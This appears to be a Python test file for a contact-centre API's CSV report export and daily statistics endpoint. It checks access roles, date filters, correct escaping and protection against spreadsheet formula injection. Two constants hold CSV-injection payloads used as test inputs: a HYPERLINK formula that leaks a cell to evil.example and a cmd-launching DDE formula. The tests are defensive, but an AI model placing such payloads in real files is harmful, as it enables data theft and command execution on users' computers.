#!/usr/bin/env python3
"""GET /api/v1/reports/contacts.csv (the avoidable-demand export) and
GET /api/v1/stats/today, checked against contacts this test records on a
server of its own."""
import csv
import datetime
import io
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from contactkit import (DROP, ApiCase, RolesServer, contact_body, iso, now_utc,  # noqa: E402
                        parse_iso, qs, runner, start_of_local_today)

HEADER = ["contact_id", "started_at", "ended_at", "channel", "handle_seconds", "wrap_topic",
          "wrap_topic_label", "wrap_code", "wrap_label", "outcome", "avoidable",
          "avoidable_reason", "progress_chasing", "customer_has_email", "script_id", "case_count"]
NASTY_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"click"), then "quotes",\nand a new line'
COMMA_LABEL = 'Rent, "arrears" and more'
FORMULA_LABEL = '=SUM(1+1)*cmd|" /C calc"!A0'


def local_date(utc_text):
    return parse_iso(utc_text).astimezone().date().isoformat()


class ReportsTest(RolesServer, ApiCase):
    customers = 50

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        admin = cls.tokens["admin"]
        for code, label in (("comma_label", COMMA_LABEL), ("formula_label", FORMULA_LABEL)):
            status, _, body = cls.srv.request("PUT", "/api/v1/wrapcodes/" + code,
                                              {"topic_code": "waste", "label": label}, token=admin)
            assert status == 200, body
        # Contacts "today": they must start after local midnight.
        now = now_utc()
        midnight = start_of_local_today().astimezone(datetime.timezone.utc)
        room = int((now - midnight).total_seconds())

        def today(seconds, ago):
            ago = min(ago, max(room - seconds, 0))
            return {"seconds": min(seconds, room), "ago": ago}

        specs = [
            # customer 1 has an e-mail address
            dict(customer_id="1", channel="phone", wrap_code="missed_bin_reported",
                 outcome="resolved", script_id="missed-bin", script_version="3",
                 case_refs=["FD-26-000001", "FD-26-000002"], **today(300, 900)),
            # customer 2 has none: digitally excluded
            dict(customer_id="2", channel="face_to_face", wrap_code="chasing_missed_bin",
                 outcome="signposted", avoidable_reason="chasing_progress", **today(120, 800)),
            # anonymous
            dict(customer_id=DROP, channel="web_chat", wrap_code="comma_label", outcome="abandoned",
                 note=NASTY_NOTE, **today(60, 700)),
            dict(customer_id="3", channel="letter", wrap_code="formula_label", outcome="resolved",
                 avoidable=True, avoidable_reason="council_error", note=NASTY_NOTE, **today(45, 600)),
            dict(customer_id="1", channel="email", wrap_code="missed_bin_reported",
                 outcome="case_raised", **today(31, 500)),
        ]
        cls.made = []
        for spec in specs:
            status, _, c = cls.srv.request("POST", "/api/v1/contacts", contact_body(**spec),
                                           token=cls.tokens["advisor"])
            assert status == 201, c
            cls.made.append(c)
        # and one three days ago, which today's figures must leave out
        status, _, c = cls.srv.request(
            "POST", "/api/v1/contacts",
            contact_body(customer_id="4", wrap_code="ctax_move_recorded", outcome="transferred",
                         seconds=200, ago=3 * 24 * 3600), token=cls.tokens["advisor"])
        assert status == 201, c
        cls.old = c

    def report(self, user="supervisor", **params):
        return self.srv.request("GET", "/api/v1/reports/contacts.csv?" + qs(**params),
                                token=self.tokens[user])

    def rows(self, **params):
        status, headers, text = self.report(**params)
        self.assertEqual(status, 200, text)
        self.assertTrue(headers.get("content-type", "").startswith("text/csv"), headers)
        table = list(csv.reader(io.StringIO(text, newline="")))
        self.assertEqual(table[0], HEADER)
        for row in table[1:]:
            self.assertEqual(len(row), len(HEADER), row)
        return text, [dict(zip(HEADER, row)) for row in table[1:]]

    def all_dates(self):
        days = [local_date(c["started_at"]) for c in self.made + [self.old]]
        return {"from": min(days), "to": max(days)}

    def test_roles(self):
        params = self.all_dates()
        for user in ("advisor", "backoffice", "trainer"):
            self.problem(self.report(user=user, **params), 403, msg=user)
            self.problem(self.srv.request("GET", "/api/v1/stats/today", token=self.tokens[user]),
                         403, msg=user)
        for user in ("supervisor", "admin"):
            self.assertEqual(self.report(user=user, **params)[0], 200, user)
            self.assertEqual(self.srv.request("GET", "/api/v1/stats/today",
                                              token=self.tokens[user])[0], 200, user)
        self.problem(self.srv.request("GET", "/api/v1/stats/today"), 401)

    def test_export_contents(self):
        text, rows = self.rows(**self.all_dates())
        by_id = {r["contact_id"]: r for r in rows}
        self.assertEqual(sorted(by_id, key=int),
                         sorted([c["id"] for c in self.made + [self.old]], key=int))
        # ordered by start time
        self.assertEqual([r["started_at"] for r in rows], sorted(r["started_at"] for r in rows))
        for c in self.made + [self.old]:
            r = by_id[c["id"]]
            self.assertEqual(r["started_at"], c["started_at"])
            self.assertEqual(r["ended_at"], c["ended_at"])
            self.assertEqual(r["channel"], c["channel"])
            self.assertEqual(r["handle_seconds"], str(c["handle_seconds"]))
            self.assertEqual(r["wrap_code"], c["wrap_code"])
            self.assertEqual(r["wrap_topic"], c["wrap_topic"])
            self.assertEqual(r["outcome"], c["outcome"])
            self.assertEqual(r["avoidable"], "yes" if c["avoidable"] else "no")
            self.assertEqual(r["avoidable_reason"], c["avoidable_reason"] or "")
            self.assertEqual(r["script_id"], c["script_id"] or "")
            self.assertEqual(r["case_count"], str(len(c["case_refs"])))
        first, excluded, anon, formula, _ = [by_id[c["id"]] for c in self.made]
        self.assertEqual((first["customer_has_email"], first["wrap_topic_label"],
                          first["wrap_label"], first["progress_chasing"], first["script_id"],
                          first["case_count"]),
                         ("yes", "Bins and recycling", "Missed bin reported", "no", "missed-bin", "2"))
        self.assertEqual((excluded["customer_has_email"], excluded["avoidable"],
                          excluded["avoidable_reason"], excluded["progress_chasing"]),
                         ("no", "yes", "chasing_progress", "yes"))
        self.assertEqual(anon["customer_has_email"], "anonymous")
        self.assertEqual(by_id[self.old["id"]]["wrap_topic"], "council_tax")
        # labels with commas and quotes survive a CSV reader intact
        self.assertEqual(anon["wrap_label"], COMMA_LABEL)
        self.assertIn('"Rent, ""arrears"" and more"', text)
        # a label that looks like a formula is defused, not run by a spreadsheet
        self.assertFalse(formula["wrap_label"].startswith("="), formula["wrap_label"])
        self.assertEqual(formula["wrap_label"].lstrip("'"), FORMULA_LABEL)
        for r in rows:
            for cell in r.values():
                self.assertFalse(cell[:1] in ("=", "+", "@"), "formula cell %r" % cell)
        # notes are never exported
        for part in ("HYPERLINK", "evil.example", "new line"):
            self.assertNotIn(part, text)
        self.assertTrue(text.endswith("\n"))
        self.assertEqual(text.count("\n"), len(rows) + 1)  # one line per row: no stray breaks

    def test_date_range_filter(self):
        old_day = local_date(self.old["started_at"])
        _, rows = self.rows(**{"from": old_day, "to": old_day})
        self.assertEqual([r["contact_id"] for r in rows], [self.old["id"]])
        today = datetime.date.today()
        _, rows = self.rows(**{"from": today.isoformat(), "to": today.isoformat()})
        made_today = [c["id"] for c in self.made if local_date(c["started_at"]) == today.isoformat()]
        self.assertEqual(sorted(r["contact_id"] for r in rows), sorted(made_today))
        self.assertNotIn(self.old["id"], [r["contact_id"] for r in rows])
        # a range with nothing in it is just the header
        text, rows = self.rows(**{"from": "2020-01-01", "to": "2020-01-31"})
        self.assertEqual(rows, [])
        self.assertEqual(text, ",".join(HEADER) + "\n")

    def test_bad_dates(self):
        today = datetime.date.today().isoformat()
        cases = [({"to": today}, "from"), ({"from": today}, "to"),
                 ({"from": "2026-13-01", "to": today}, "from"),
                 ({"from": "yesterday", "to": today}, "from"),
                 ({"from": today, "to": "2026-11-23T00:00:00Z"}, "to"),
                 ({"from": today, "to": "2020-01-01"}, "to"),
                 ({"from": "2020-01-01", "to": "2021-06-01"}, "to")]
        for params, field in cases:
            self.problem(self.report(**params), 400, field, msg=repr(params))

    def test_stats_today(self):
        status, _, s = self.srv.request("GET", "/api/v1/stats/today", token=self.tokens["supervisor"])
        self.assertEqual(status, 200, s)
        since = parse_iso(s["since"])
        self.assertEqual(since, start_of_local_today().astimezone(datetime.timezone.utc))
        todays = [c for c in self.made + [self.old] if parse_iso(c["started_at"]) >= since]
        self.assertNotIn(self.old, todays)
        self.assertEqual(s["contacts"], len(todays))
        answered = [c for c in todays if c["outcome"] != "abandoned"]
        resolved = [c for c in todays if c["outcome"] == "resolved"]
        avoidable = [c for c in todays if c["avoidable"]]
        self.assertAlmostEqual(s["first_contact_resolution_rate"],
                               len(resolved) / len(answered) if answered else 0.0, places=6)
        self.assertAlmostEqual(s["avoidable_rate"],
                               len(avoidable) / len(todays) if todays else 0.0, places=6)
        aht = sum(c["handle_seconds"] for c in todays) / len(todays) if todays else 0
        self.assertLessEqual(abs(s["average_handle_seconds"] - aht), 0.5 + 1e-9)
        counts = {}
        for c in todays:
            counts[(c["wrap_code"], c["wrap_label"])] = counts.get((c["wrap_code"], c["wrap_label"]), 0) + 1
        want = sorted(({"code": k[0], "label": k[1], "count": n} for k, n in counts.items()),
                      key=lambda t: (-t["count"], t["code"]))[:5]
        self.assertEqual(s["top_wrap_codes"], want)
        if len(todays) == len(self.made):  # the usual case: not run just after midnight
            self.assertEqual(s["contacts"], 5)
            self.assertEqual(s["top_wrap_codes"][0], {"code": "missed_bin_reported",
                                                      "label": "Missed bin reported", "count": 2})
            self.assertAlmostEqual(s["first_contact_resolution_rate"], 2 / 4)
            self.assertAlmostEqual(s["avoidable_rate"], 2 / 5)

    def test_stats_today_then_a_new_contact(self):
        tok = self.tokens["supervisor"]
        before = self.srv.request("GET", "/api/v1/stats/today", token=tok)[2]
        midnight = start_of_local_today().astimezone(datetime.timezone.utc)
        seconds = max(0, min(10, int((now_utc() - midnight).total_seconds())))
        body = contact_body(customer_id="5", wrap_code="pothole_reported", seconds=seconds)
        body["started_at"] = max(body["started_at"], iso(midnight))
        c = self.ok(self.srv.request("POST", "/api/v1/contacts", body, token=self.tokens["advisor"]),
                    201)
        self.made.append(c)  # the other tests see it too
        after = self.srv.request("GET", "/api/v1/stats/today", token=tok)[2]
        self.assertEqual(after["contacts"], before["contacts"] + 1)


if __name__ == "__main__":
    sys.exit(runner.main(__name__))
